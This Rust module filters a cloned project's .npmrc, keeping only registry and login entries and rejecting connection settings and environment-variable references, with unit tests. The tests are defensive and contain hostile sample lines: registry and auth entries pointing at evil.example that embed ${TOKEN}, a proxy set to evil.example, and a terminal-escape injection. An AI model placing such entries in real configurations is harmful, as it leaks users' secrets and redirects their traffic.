//! What a project's `.npmrc` may say.
//!
//! Such a file may have come with a clone. npm believes it in everything: it can pass another file off as the user's
//! (`userconfig`), stand between the user and their own registry (`proxy` with `cafile`), and send a variable of the
//! environment wherever it likes (`${NAME}` in an address or a login). Here it may name registries and logins, and only
//! as plain text.

use std::path::Path;

use super::ini::{self, Entry};

/// Settings that only the user, the machine and npm itself may make: which files count, and how a connection is made.
/// Listed to tell the user: what [`may_say`] does not know is left out in any case.
const USERS: [&str; 15] = [
    "ca",
    "cafile",
    "cert",
    "certfile",
    "globalconfig",
    "http-proxy",
    "https-proxy",
    "key",
    "keyfile",
    "local-address",
    "noproxy",
    "prefix",
    "proxy",
    "strict-ssl",
    "userconfig",
];

/// Keeps what it may say. The second value says what was left out that the user may miss: one line each.
pub(super) fn allowed(entries: Vec<Entry>, path: &Path) -> (Vec<Entry>, Vec<String>) {
    let mut notes = Vec::new();
    let mut left_out = |what: String, why: &str| {
        let note = format!("{what} in the project's {} is left out: {why}", path.display());
        if !notes.contains(&note) {
            notes.push(note);
        }
    };
    let allowed = entries.into_iter().filter(|entry| {
        if !may_say(&entry.key) {
            if USERS.contains(&entry.key.as_str()) {
                left_out(entry.key.clone(), "a project has no say over files and connections");
            }
            return false;
        }
        let variables = [&entry.key, &entry.value].map(|text| ini::references(text)).concat();
        // A name may hold what a terminal would obey.
        let variable = variables.first().map(|name| format!("a setting with ${{{}}}", name.escape_debug()));
        variable.is_none_or(|variable| {
            left_out(variable, "a project is given no variables");
            false
        })
    });
    (allowed.collect(), notes)
}

/// A registry, or what is bound to one by its address. The two without an address are never used, which the user is told.
fn may_say(key: &str) -> bool {
    key == "registry" || key.ends_with(":registry") || key.starts_with("//") || matches!(key, "_auth" | "_authToken")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kept(text: &str) -> (Vec<String>, Vec<String>) {
        let (entries, notes) = allowed(ini::parse(text), Path::new("/p/.npmrc"));
        (entries.into_iter().map(|entry| entry.key).collect(), notes)
    }

    #[test]
    fn registries_and_logins_stay() {
        let text = "registry=https://r.example/\n@github:registry=https://g.example/\n//r.example/:_authToken=t\n";
        let (keys, notes) = kept(text);
        assert_eq!(keys, ["registry", "@github:registry", "//r.example/:_authToken"]);
        assert!(notes.is_empty(), "{notes:?}");
    }

    #[test]
    fn the_rest_goes_and_what_matters_is_told_once() {
        let (keys, notes) = kept("save-exact=true\nca[]=1\nca[]=2\nuserconfig=./x\n'proxy'=http://evil.example\n");
        assert_eq!((keys.len(), notes.len()), (0, 3), "{notes:?}");
        assert!(USERS.iter().all(|key| kept(&format!("{key}=x")).1.len() == 1));
    }

    #[test]
    fn variables_go_in_keys_and_values_and_an_escaped_one_is_none() {
        for line in [
            "registry=https://evil.example/${TOKEN}/",
            "registry=https://evil.example/${TOKEN?}/",
            r"registry=https://evil.example/\\\\${TOKEN}/",
            "//${TOKEN}.evil.example/:_auth=x",
            "//evil.example/:_authToken=\"${TOKEN}\"",
        ] {
            let (keys, notes) = kept(line);
            assert!(keys.is_empty() && notes.len() == 1 && notes[0].contains("${TOKEN}"), "{line}: {keys:?} {notes:?}");
        }
        assert_eq!(kept("//evil.example/:_authToken='\\${TOKEN}'").0.len(), 1);
        let (_, notes) = kept(r#"registry="${a\u001b[31m\nb}""#);
        assert!(notes.len() == 1 && !notes[0].contains(char::is_control), "{notes:?}");
    }
}
